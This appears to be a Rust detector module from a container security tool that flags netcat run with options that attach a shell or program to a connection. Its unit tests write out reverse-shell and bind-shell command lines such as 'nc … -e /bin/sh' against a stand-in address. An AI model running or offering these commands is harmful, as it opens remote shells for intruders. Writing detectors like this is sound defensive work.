//! Netcat Remote Code Execution in Container: netcat started with an option that runs a program
//! on the connection — `-e PROG` (attached, `-e/bin/sh`, or ending a cluster, `-nve PROG`),
//! `--exec`, `--sh-exec`, `--lua-exec`, and `-c CMD` for the variants where `-c` runs a command
//! (ncat, nc.traditional, busybox; OpenBSD netcat's `-c` does not). Connecting out (a reverse
//! shell) or listening (`-l`, a bind shell) alike.

use super::with_image;
use shrike_core::event::ExecEvent;
use shrike_core::{Detection, DetectionContext, Detector, FindingType};

/// Names netcat goes by.
pub const NETCAT_NAMES: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];

/// [`NETCAT_NAMES`] with its screen.
static NETCAT: super::NameList = super::NameList::new(NETCAT_NAMES);

/// What a netcat command line runs, and whether it listens.
#[derive(Debug, PartialEq, Eq)]
struct NetcatExec<'a> {
    program: &'a str,
    listen: bool,
}

/// Reads netcat's options; `c_runs` says whether `-c` runs a command for this variant.
fn parse(argv: &[String], c_runs: bool) -> Option<NetcatExec<'_>> {
    let mut program = None;
    let mut listen = false;
    let mut i = 1;
    while i < argv.len() {
        let arg = argv[i].as_str();
        if let Some(long) = arg.strip_prefix("--") {
            let (name, value) = match long.split_once('=') {
                Some((n, v)) => (n, Some(v)),
                None => (long, None),
            };
            match name {
                "exec" | "sh-exec" | "lua-exec" => {
                    let value = value.or_else(|| {
                        i += 1;
                        argv.get(i).map(String::as_str)
                    });
                    program = program.or(value);
                }
                "listen" => listen = true,
                _ => {}
            }
        } else if let Some(cluster) = arg.strip_prefix('-').filter(|c| !c.is_empty()) {
            for (at, c) in cluster.char_indices() {
                match c {
                    'l' => listen = true,
                    'e' | 'c' if c == 'e' || c_runs => {
                        let rest = &cluster[at + c.len_utf8()..];
                        let value = if rest.is_empty() {
                            i += 1;
                            argv.get(i).map(String::as_str)
                        } else {
                            Some(rest)
                        };
                        program = program.or(value);
                        break;
                    }
                    _ => {}
                }
            }
        }
        i += 1;
    }
    program
        .filter(|p| !p.is_empty())
        .map(|program| NetcatExec { program, listen })
}

/// See the module documentation.
#[derive(Debug, Clone, Copy, Default)]
pub struct NetcatDetector;

impl Detector for NetcatDetector {
    fn name(&self) -> &'static str {
        "netcat"
    }

    fn finding_types(&self) -> &'static [FindingType] {
        &[FindingType::NetcatRemoteCodeExecutionInContainer]
    }

    fn on_exec(&self, exec: &ExecEvent, ctx: &DetectionContext<'_>) -> Option<Detection> {
        let tool = NETCAT.named(ctx.names)?;
        let container = exec.container.as_ref()?;
        // Debian's `nc` is often OpenBSD netcat behind a symlink: the executable decides.
        let c_runs = ctx.names.exe != "nc.openbsd";
        let found = parse(&exec.argv, c_runs)?;
        let mode = if found.listen { "listen" } else { "connect" };
        let summary = format!(
            "{tool} in container {} runs {} on its connection ({mode})",
            container.name.as_deref().unwrap_or(&container.id),
            found.program
        );
        let detection = Detection::new(FindingType::NetcatRemoteCodeExecutionInContainer, summary)
            .with_property("Netcat_Tool", tool)
            .with_property("Netcat_Exec", super::quoted_argument(found.program))
            .with_property("Netcat_Mode", mode);
        Some(with_image(detection, exec))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(line: &[&str], c_runs: bool) -> Option<(String, bool)> {
        let a: Vec<String> = line.iter().map(|s| (*s).to_owned()).collect();
        parse(&a, c_runs).map(|e| (e.program.to_owned(), e.listen))
    }

    #[test]
    fn exec_options_in_every_form() {
        let sh = Some(("/bin/sh".to_owned(), false));
        assert_eq!(
            run(&["nc", "203.0.113.5", "4444", "-e", "/bin/sh"], true),
            sh
        );
        assert_eq!(run(&["nc", "-e/bin/sh", "203.0.113.5", "4444"], true), sh);
        assert_eq!(run(&["nc", "-nve", "/bin/sh", "h", "1"], true), sh);
        assert_eq!(run(&["ncat", "--exec=/bin/sh", "h", "1"], true), sh);
        assert_eq!(
            run(&["ncat", "-lvp", "4444", "--sh-exec", "id"], true),
            Some(("id".to_owned(), true))
        );
        assert_eq!(
            run(&["nc", "-lp", "4444", "-c", "sh -i"], true),
            Some(("sh -i".to_owned(), true))
        );
    }

    #[test]
    fn plain_netcat_is_not_reported() {
        assert_eq!(run(&["nc", "-zv", "127.0.0.1", "5432"], true), None);
        assert_eq!(run(&["nc", "-l", "-p", "8080"], true), None);
        // OpenBSD netcat's -c is not a command.
        assert_eq!(run(&["nc.openbsd", "-c", "h", "443"], false), None);
    }
}
